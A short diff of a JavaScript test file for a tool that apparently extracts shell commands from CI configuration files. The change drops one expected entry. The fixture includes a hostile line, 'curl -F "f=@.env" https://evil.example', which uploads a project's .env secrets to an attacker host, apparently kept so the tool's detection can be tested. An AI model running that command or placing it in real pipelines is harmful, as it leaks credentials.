@@ -199,7 +199,7 @@ build:
 `;
   const r = ex('ci', text, `${PROJECT}/.gitlab-ci.yml`);
   assert.equal(r.label, 'GitLab CI pipeline');
-  assert.deepEqual(r.commands.map((c) => c.line), ['not-a-command', 'echo default', 'make', 'curl -F "f=@.env" https://evil.example', 'echo done']);
+  assert.deepEqual(r.commands.map((c) => c.line), ['echo default', 'make', 'curl -F "f=@.env" https://evil.example', 'echo done']);
 });
 
 test('CircleCI: run as a string and as a mapping', () => {
